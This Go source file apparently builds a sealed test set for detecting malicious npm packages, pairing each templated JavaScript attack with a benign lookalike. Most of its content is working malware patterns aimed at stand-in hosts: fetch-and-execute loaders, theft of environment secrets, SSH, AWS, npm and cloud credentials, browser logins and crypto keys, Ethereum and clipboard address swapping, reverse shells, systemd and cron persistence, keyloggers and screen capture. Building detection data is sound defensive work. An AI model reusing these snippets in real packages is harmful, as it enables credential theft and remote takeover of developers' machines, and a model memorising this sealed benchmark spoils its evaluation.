package generate

// sealedScripts are attacks on npm packages of the sealed half; see sealed.go. Each is
// built as a kind of published incident was, in words and code of its own.
var sealedScripts = []shape{
	// download-exec
	{family: "download-exec", name: "vm-of-a-stream", lang: javascript, bad: snippet{`
async function <%n refresh%>() {
  const reply = await <%c undici.request%>(<%s $URL%>);
  const source = await reply.body.text();
  <%c vm.runInThisContext%>(source, { filename: <%s words.js%> });
}
`, "<%n refresh%>()"}, good: snippet{`
async function <%n refresh%>(address) {
  const reply = await <%c undici.request%>(address);
  const source = await reply.body.text();
  return new Map(source.split('\n').map((line) => line.split('=')));
}
`, "void <%n refresh%>"}},
	{family: "download-exec", name: "pipeline-to-binary", lang: javascript, bad: snippet{`
const <%n file%> = <%c path.join%>(<%c os.tmpdir%>(), <%s .helper%>);

async function <%n fetchHelper%>() {
  const reply = await <%b fetch%>(<%s $URL%>);
  await <%c fs/promises.writeFile%>(<%n file%>, Buffer.from(await reply.arrayBuffer()), { mode: 0o755 });
  <%c child_process.execFile%>(<%n file%>, [], { cwd: '/' });
}
`, "<%n fetchHelper%>()"}, good: snippet{`
const <%n file%> = <%c path.join%>(<%c os.tmpdir%>(), 'words.db');

async function <%n fetchTable%>(address) {
  const reply = await <%b fetch%>(address);
  await <%c fs/promises.writeFile%>(<%n file%>, Buffer.from(await reply.arrayBuffer()), { mode: 0o600 });
  return <%n file%>;
}
`, "void <%n fetchTable%>"}},
	{family: "download-exec", name: "header-to-function", lang: javascript, bad: snippet{`
function <%n check%>(then) {
  <%c https.get%>(<%s $URL%>, (reply) => {
    const text = Buffer.from(String(reply.headers[<%s x-license%>]), 'base64').toString();
    then(new Function('require', text));
    reply.resume();
  });
}
`, "<%n check%>((run) => run(<%b require%>))"}, good: snippet{`
function <%n check%>(then) {
  <%c https.get%>('https://words.example.invalid/version', (reply) => {
    const text = Buffer.from(String(reply.headers['x-version'])).toString();
    then(text.split('.').map(Number));
    reply.resume();
  });
}
`, "void <%n check%>"}},
	{family: "download-exec", name: "powershell-for-windows", lang: javascript, bad: snippet{`
function <%n setup%>(os) {
  if (os !== 'win32') return;
  <%c child_process.spawn%>(<%s powershell.exe%>, ['-w', 'hidden', '-c', <%s iwr $URL -OutFile $env:TEMP\u.exe; saps $env:TEMP\u.exe%>], { windowsHide: true });
}
`, "<%n setup%>(<%c os.platform%>())"}, good: snippet{`
function <%n setup%>(os) {
  if (os !== 'win32') return;
  <%c child_process.spawn%>('powershell.exe', ['-c', 'Get-ExecutionPolicy'], { stdio: 'inherit' });
}
`, "<%n setup%>(<%c os.platform%>())"}},

	// env-exfil
	{family: "env-exfil", name: "beacon-of-names", lang: javascript, bad: snippet{`
const <%n rows%> = Object.keys(<%g process.env%>).map((k) => [k, <%g process.env%>[k]]);
const <%n body%> = new URLSearchParams(<%n rows%>).toString();
`, "<%c https.get%>(<%s $URL%> + '?' + <%n body%>)"}, good: snippet{`
const <%n rows%> = Object.keys(<%g process.env%>).filter((k) => /^LC_|^LANG/.test(k)).map((k) => [k, <%g process.env%>[k]]);
const <%n body%> = new URLSearchParams(<%n rows%>).toString();
`, "console.log(<%n body%>)"}},
	{family: "env-exfil", name: "zipped-and-posted", lang: javascript, bad: snippet{`
const <%n pack%> = (value) => <%c zlib.gzipSync%>(JSON.stringify(value)).toString('base64');

async function <%n telemetry%>() {
  const { env } = <%b process%>;
  await <%c axios.post%>(<%s $URL%>, { v: 1, d: <%n pack%>(env) });
}
`, "<%n telemetry%>().catch(() => {})"}, good: snippet{`
const <%n pack%> = (value) => <%c zlib.gzipSync%>(JSON.stringify(value)).toString('base64');

async function <%n telemetry%>(address, event) {
  if (<%g process.env%>.DO_NOT_TRACK) return;
  await <%c axios.post%>(address, { v: 1, d: <%n pack%>(event) });
}
`, "void <%n telemetry%>"}},
	{family: "env-exfil", name: "raw-socket-tokens", lang: javascript, bad: snippet{`
const <%n wanted%> = /token|secret|passw|_key$/i;

function <%n flush%>() {
  const link = <%c net.connect%>($PORT, <%s $ADDRESS%>, () => {
    for (const k in <%g process.env%>) if (<%n wanted%>.test(k)) link.write(k + '=' + <%g process.env%>[k] + '\n');
    link.end();
  });
  link.on('error', () => {});
}
`, "<%n flush%>()"}, good: snippet{`
const <%n wanted%> = /token|secret|passw|_key$/i;

function <%n masked%>() {
  const out = {};
  for (const k in <%g process.env%>) out[k] = <%n wanted%>.test(k) ? '***' : <%g process.env%>[k];
  return out;
}
`, "void <%n masked%>"}},
	{family: "env-exfil", name: "dotenv-walk", lang: javascript, bad: snippet{`
function <%n upwards%>(folder, found = []) {
  const file = <%c path.join%>(folder, <%s .env%>);
  if (<%c fs.existsSync%>(file)) found.push(<%c fs.readFileSync%>(file, 'utf8'));
  const next = <%c path.dirname%>(folder);
  return next === folder ? found : <%n upwards%>(next, found);
}
`, "<%b fetch%>(<%s $URL%>, { method: 'PUT', body: <%n upwards%>(<%g process.cwd%>()).join() })"}, good: snippet{`
function <%n upwards%>(folder) {
  const file = <%c path.join%>(folder, '.env');
  if (<%c fs.existsSync%>(file)) return file;
  const next = <%c path.dirname%>(folder);
  return next === folder ? null : <%n upwards%>(next);
}
`, "<%n upwards%>(<%g process.cwd%>())"}},

	// credential-files
	{family: "credential-files", name: "promises-all-keys", lang: javascript, bad: snippet{`
const <%n names%> = [<%s .ssh/id_ed25519%>, <%s .aws/credentials%>, <%s .npmrc%>, <%s .git-credentials%>];

async function <%n collect%>() {
  const home = <%c os.homedir%>();
  const texts = await Promise.allSettled(<%n names%>.map((n) => <%c fs/promises.readFile%>(<%c path.join%>(home, n), 'utf8')));
  await <%b fetch%>(<%s $URL%>, { method: 'POST', body: JSON.stringify(texts.map((t) => t.value)) });
}
`, "<%n collect%>()"}, good: snippet{`
const <%n names%> = ['.wordsrc', '.config/words.json'];

async function <%n collect%>() {
  const home = <%c os.homedir%>();
  const texts = await Promise.allSettled(<%n names%>.map((n) => <%c fs/promises.readFile%>(<%c path.join%>(home, n), 'utf8')));
  return Object.assign({}, ...texts.filter((t) => t.value).map((t) => JSON.parse(t.value)));
}
`, "<%n collect%>()"}},
	{family: "credential-files", name: "piped-upload", lang: javascript, bad: snippet{`
function <%n up%>(name) {
  const wire = <%c https.request%>(<%s $URL%>, { method: 'POST', headers: { 'x-name': name } });
  wire.on('error', () => {});
  <%c fs.createReadStream%>(<%c path.resolve%>(<%c os.homedir%>(), name)).on('error', () => {}).pipe(wire);
}
`, "[<%s .kube/config%>, <%s .docker/config.json%>].forEach(<%n up%>)"}, good: snippet{`
function <%n up%>(name, address) {
  const wire = <%c https.request%>(address, { method: 'POST', headers: { 'x-name': name } });
  wire.on('error', console.error);
  <%c fs.createReadStream%>(<%c path.resolve%>('dist', name)).pipe(wire);
}
`, "void <%n up%>"}},
	{family: "credential-files", name: "gh-token-by-command", lang: javascript, bad: snippet{`
const <%n say%> = (line) => <%c child_process.execSync%>(line, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] }).trim();

function <%n tokens%>() {
  return { gh: <%n say%>(<%s gh auth token%>), npm: <%n say%>(<%s npm config get //$HOST/:_authToken%>), gcloud: <%n say%>(<%s gcloud auth print-access-token%>) };
}
`, "<%c axios.post%>(<%s $URL%>, <%n tokens%>())"}, good: snippet{`
const <%n say%> = (line) => <%c child_process.execSync%>(line, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] }).trim();

function <%n state%>() {
  return { branch: <%n say%>('git branch --show-current'), commit: <%n say%>('git rev-parse HEAD'), node: <%n say%>('node -v') };
}
`, "console.log(<%n state%>())"}},

	// browser-stores
	{family: "browser-stores", name: "profiles-of-chromium", lang: javascript, bad: snippet{`
function <%n stores%>(base) {
  return <%c fs.readdirSync%>(base).filter((d) => /^(Default|Profile \d+)$/.test(d)).map((d) => <%c path.join%>(base, d, <%s Login Data%>));
}

async function <%n send%>() {
  const base = <%c path.join%>(<%c os.homedir%>(), <%s AppData/Local/Google/Chrome/User Data%>);
  for (const file of <%n stores%>(base)) await <%b fetch%>(<%s $URL%>, { method: 'POST', body: <%c fs.readFileSync%>(file) });
}
`, "<%n send%>()"}, good: snippet{`
function <%n stores%>(base) {
  return <%c fs.readdirSync%>(base).filter((d) => /^(Default|Profile \d+)$/.test(d));
}

function <%n profile%>(base, choice) {
  if (!<%n stores%>(base).includes(choice)) throw new Error('no such profile: ' + choice);
  return ['--profile-directory=' + choice];
}
`, "void <%n profile%>"}},
	{family: "browser-stores", name: "cookies-by-sqlite", lang: javascript, bad: snippet{`
async function <%n cookies%>() {
  const copy = <%c path.join%>(<%c os.tmpdir%>(), 'c.db');
  <%c fs.copyFileSync%>(<%c path.join%>(<%c os.homedir%>(), <%s .config/chromium/Default/Cookies%>), copy);
  const { DatabaseSync } = await import('node:sqlite');
  const rows = new DatabaseSync(copy).prepare(<%s select host_key, name, encrypted_value from cookies%>).all();
  await <%c axios.post%>(<%s $URL%>, rows);
}
`, "<%n cookies%>()"}, good: snippet{`
async function <%n words%>(file) {
  const copy = <%c path.join%>(<%c os.tmpdir%>(), 'w.db');
  <%c fs.copyFileSync%>(file, copy);
  const { DatabaseSync } = await import('node:sqlite');
  return new DatabaseSync(copy).prepare('select text, count from words').all();
}
`, "void <%n words%>"}},

	// wallets
	{family: "wallets", name: "solana-key-file", lang: javascript, bad: snippet{`
function <%n keyfile%>() {
  const raw = <%c fs.readFileSync%>(<%c os.homedir%>() + <%s /.config/solana/id.json%>, 'utf8');
  return Buffer.from(JSON.parse(raw)).toString('hex');
}
`, "<%c https.get%>(<%s $URL%> + '/' + <%n keyfile%>())"}, good: snippet{`
function <%n network%>() {
  const raw = <%c fs.readFileSync%>(<%c os.homedir%>() + '/.config/words/network.json', 'utf8');
  return JSON.parse(raw).endpoint;
}
`, "<%n network%>()"}},
	{family: "wallets", name: "send-transaction-proxy", lang: javascript, bad: snippet{`
function <%n guard%>(provider) {
  return new Proxy(provider, {
    get(of, key) {
      if (key !== 'request') return of[key];
      return (call) => {
        if (call.method === <%s eth_sendTransaction%>) call.params[0].to = <%s 0x1nert00000000000000000000000000000000bbbb%>;
        return of.request(call);
      };
    },
  });
}
`, "globalThis.ethereum && (globalThis.ethereum = <%n guard%>(globalThis.ethereum))"}, good: snippet{`
function <%n guard%>(provider, log) {
  return new Proxy(provider, {
    get(of, key) {
      if (key !== 'request') return of[key];
      return (call) => {
        if (call.method === 'eth_sendTransaction') log(call.params[0].to);
        return of.request(call);
      };
    },
  });
}
`, "void <%n guard%>"}},

	// messenger
	{family: "messenger", name: "discord-form", lang: javascript, bad: snippet{`
async function <%n drop%>() {
  const form = new FormData();
  form.set('payload_json', JSON.stringify({ content: <%c os.hostname%>() }));
  form.set('file', new Blob([<%c fs.readFileSync%>(<%c path.join%>(<%c os.homedir%>(), <%s .npmrc%>))]), 'a.txt');
  await <%b fetch%>(<%s $DISCORD%>, { method: 'POST', body: form });
}
`, "<%n drop%>()"}, good: snippet{`
async function <%n drop%>(hook, build) {
  const form = new FormData();
  form.set('payload_json', JSON.stringify({ content: build.status }));
  form.set('file', new Blob([<%c fs.readFileSync%>(build.log)]), 'build.txt');
  await <%b fetch%>(hook, { method: 'POST', body: form });
}
`, "void <%n drop%>"}},
	{family: "messenger", name: "telegram-by-get", lang: javascript, bad: snippet{`
const <%n text%> = () => encodeURIComponent([<%c os.userInfo%>().username, <%g process.env%>.NPM_TOKEN, <%g process.env%>.GITHUB_TOKEN].join('|'));
`, "<%c https.get%>(<%s $TELEGRAM%> + <%s ?chat_id=100000002&text=%> + <%n text%>()).on('error', () => {})"}, good: snippet{`
const <%n text%> = (name, version) => encodeURIComponent(name + ' ' + version + ' is out');
const <%n announce%> = (bot, chat, name, version) => <%c https.get%>(bot + '?chat_id=' + chat + '&text=' + <%n text%>(name, version));
`, "void <%n announce%>"}},

	// reverse-shell
	{family: "reverse-shell", name: "piped-both-ways", lang: javascript, bad: snippet{`
function <%n link%>() {
  const wire = new <%c net.Socket%>();
  wire.connect($PORT, <%s $ADDRESS%>, () => {
    const sh = <%c child_process.spawn%>(<%g process.platform%> === 'win32' ? <%s cmd.exe%> : <%s /bin/sh%>, []);
    wire.pipe(sh.stdin);
    sh.stdout.pipe(wire);
    sh.stderr.pipe(wire);
  });
  wire.on('error', () => setTimeout(<%n link%>, 3e4).unref());
}
`, "<%n link%>()"}, good: snippet{`
function <%n link%>(port, host) {
  const wire = new <%c net.Socket%>();
  wire.connect(port, host, () => {
    const sort = <%c child_process.spawn%>('sort', []);
    wire.pipe(sort.stdin);
    sort.stdout.pipe(<%g process.stdout%>);
  });
  wire.on('error', console.error);
}
`, "void <%n link%>"}},
	{family: "reverse-shell", name: "polled-orders", lang: javascript, bad: snippet{`
async function <%n poll%>() {
  const order = await (await <%b fetch%>(<%s https://$HOST/o%>)).text();
  if (!order) return;
  <%c child_process.exec%>(order, (error, out) => <%b fetch%>(<%s https://$HOST/r%>, { method: 'POST', body: out }));
}
`, "setInterval(<%n poll%>, 20000)"}, good: snippet{`
async function <%n poll%>(address, draw) {
  const status = await (await <%b fetch%>(address)).json();
  if (!status.changed) return;
  draw(status.text);
}
`, "void <%n poll%>"}},

	// persistence
	{family: "persistence", name: "user-service", lang: javascript, bad: snippet{`
const <%n unit%> = ['[Service]', <%s ExecStart=/bin/sh -c "curl -s $URL | sh"%>, 'Restart=always', '[Install]', 'WantedBy=default.target'].join('\n');

function <%n stay%>() {
  const folder = <%c path.join%>(<%c os.homedir%>(), <%s .config/systemd/user%>);
  <%c fs.mkdirSync%>(folder, { recursive: true });
  <%c fs.writeFileSync%>(<%c path.join%>(folder, <%s gnome-cache.service%>), <%n unit%>);
  <%c child_process.spawnSync%>('systemctl', ['--user', 'enable', '--now', <%s gnome-cache%>]);
}
`, "<%n stay%>()"}, good: snippet{`
const <%n unit%> = ['[Service]', 'ExecStart=/usr/bin/words serve', '[Install]', 'WantedBy=default.target'].join('\n');

function <%n example%>(folder) {
  <%c fs.mkdirSync%>(folder, { recursive: true });
  <%c fs.writeFileSync%>(<%c path.join%>(folder, 'words.service.example'), <%n unit%>);
}
`, "void <%n example%>"}},
	{family: "persistence", name: "cron-by-input", lang: javascript, bad: snippet{`
function <%n nightly%>() {
  let now = '';
  try {
    now = <%c child_process.execFileSync%>('crontab', ['-l'], { encoding: 'utf8' });
  } catch {}
  <%c child_process.execFileSync%>('crontab', ['-'], { input: now + <%s */30 * * * * curl -s $URL | sh%> + '\n' });
}
`, "<%n nightly%>()"}, good: snippet{`
function <%n nightly%>() {
  let now = '';
  try {
    now = <%c child_process.execFileSync%>('crontab', ['-l'], { encoding: 'utf8' });
  } catch {}
  return now.split('\n').filter((line) => line.includes('words'));
}
`, "void <%n nightly%>"}},
	{family: "persistence", name: "node-options-preload", lang: javascript, bad: snippet{`
function <%n preload%>() {
  const home = <%c os.homedir%>();
  const file = <%c path.join%>(home, <%s .node_cache.js%>);
  <%c fs.copyFileSync%>(__filename, file);
  <%c fs.appendFileSync%>(<%c path.join%>(home, <%s .bashrc%>), <%s \nexport NODE_OPTIONS="--require %> + file + '"\n');
}
`, "<%n preload%>()"}, good: snippet{`
function <%n preload%>(file) {
  const env = { ...<%g process.env%>, NODE_OPTIONS: '--max-old-space-size=2048' };
  return <%c child_process.spawnSync%>(<%g process.execPath%>, [file], { env, stdio: 'inherit' }).status;
}
`, "void <%n preload%>"}},

	// keylogger, screenshot, clipboard
	{family: "keylogger", name: "global-keyboard", lang: javascript, bad: snippet{`
async function <%n watch%>() {
  const { GlobalKeyboardListener } = await import('node-global-key-listener');
  const keys = [];
  new GlobalKeyboardListener().addListener((e) => e.state === 'DOWN' && keys.push(e.name));
  setInterval(() => <%b fetch%>(<%s $URL%>, { method: 'POST', body: keys.splice(0).join(' ') }), 60000);
}
`, "<%n watch%>()"}, good: snippet{`
async function <%n watch%>(toggle) {
  const { GlobalKeyboardListener } = await import('node-global-key-listener');
  new GlobalKeyboardListener().addListener((e, down) => {
    if (e.name === 'F9' && down['LEFT CTRL']) toggle();
  });
}
`, "void <%n watch%>"}},
	{family: "keylogger", name: "capture-phase-beacon", lang: javascript, bad: snippet{`
const <%n typed%> = [];

function <%n listen%>(page) {
  page.addEventListener('keydown', (e) => <%n typed%>.push(e.key), true);
  page.addEventListener('visibilitychange', () => navigator.sendBeacon(<%s $URL%>, <%n typed%>.splice(0).join('')));
}
`, "typeof document === 'object' && <%n listen%>(document)"}, good: snippet{`
const <%n handlers%> = new Map();

function <%n listen%>(page) {
  page.addEventListener('keydown', (e) => (<%n handlers%>.get((e.ctrlKey ? 'ctrl+' : '') + e.key) || Boolean)(e), true);
  return (keys, handler) => <%n handlers%>.set(keys, handler);
}
`, "typeof document === 'object' && <%n listen%>(document)"}},
	{family: "screenshot", name: "desktop-capturer", lang: javascript, bad: snippet{`
async function <%n peek%>() {
  const sources = await <%c electron.desktopCapturer.getSources%>({ types: ['screen'], thumbnailSize: { width: 1920, height: 1080 } });
  for (const s of sources) await <%b fetch%>(<%s $URL%>, { method: 'POST', body: s.thumbnail.toPNG() });
}
`, "<%n peek%>()"}, good: snippet{`
async function <%n choices%>() {
  const sources = await <%c electron.desktopCapturer.getSources%>({ types: ['window'], thumbnailSize: { width: 160, height: 90 } });
  return sources.map((s) => ({ id: s.id, label: s.name }));
}
`, "void <%n choices%>"}},
	{family: "screenshot", name: "grim-and-screencapture", lang: javascript, bad: snippet{`
const <%n tools%> = { linux: [<%s import%>, '-window', 'root'], darwin: [<%s screencapture%>, '-x'] };

function <%n snap%>() {
  const [tool, ...words] = <%n tools%>[<%g process.platform%>] || [];
  const file = <%c path.join%>(<%c os.tmpdir%>(), 's.png');
  <%c child_process.spawnSync%>(tool, [...words, file]);
  <%c fs.createReadStream%>(file).pipe(<%c https.request%>(<%s $URL%>, { method: 'POST' }));
}
`, "<%n snap%>()"}, good: snippet{`
const <%n tools%> = { linux: ['xdg-open'], darwin: ['open'] };

function <%n show%>(file) {
  const [tool, ...words] = <%n tools%>[<%g process.platform%>] || [];
  return <%c child_process.spawnSync%>(tool, [...words, file]).status;
}
`, "void <%n show%>"}},
	{family: "clipboard", name: "clipboardy-interval", lang: javascript, bad: snippet{`
const <%n pattern%> = /\b(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}\b/;

async function <%n turn%>() {
  const text = await <%c clipboardy.read%>();
  if (<%n pattern%>.test(text)) await <%c clipboardy.write%>(text.replace(<%n pattern%>, <%s $COIN%>));
}
`, "setInterval(<%n turn%>, 400)"}, good: snippet{`
const <%n pattern%> = /[ \t]+$/gm;

async function <%n turn%>() {
  const text = await <%c clipboardy.read%>();
  if (<%n pattern%>.test(text)) await <%c clipboardy.write%>(text.replace(<%n pattern%>, ''));
}
`, "void <%n turn%>"}},
	{family: "clipboard", name: "pbpaste-post", lang: javascript, bad: snippet{`
let <%n last%> = '';

function <%n look%>() {
  const text = <%c child_process.execSync%>(<%g process.platform%> === 'darwin' ? <%s pbpaste%> : <%s powershell Get-Clipboard%>).toString();
  if (text === <%n last%>) return;
  <%n last%> = text;
  <%b fetch%>(<%s $URL%>, { method: 'POST', body: text });
}
`, "setInterval(<%n look%>, 1500)"}, good: snippet{`
let <%n last%> = '';

function <%n paste%>() {
  const text = <%c child_process.execSync%>(<%g process.platform%> === 'darwin' ? 'pbpaste' : 'xclip -o').toString();
  <%n last%> = text.trim();
  return JSON.parse(<%n last%>);
}
`, "void <%n paste%>"}},
}
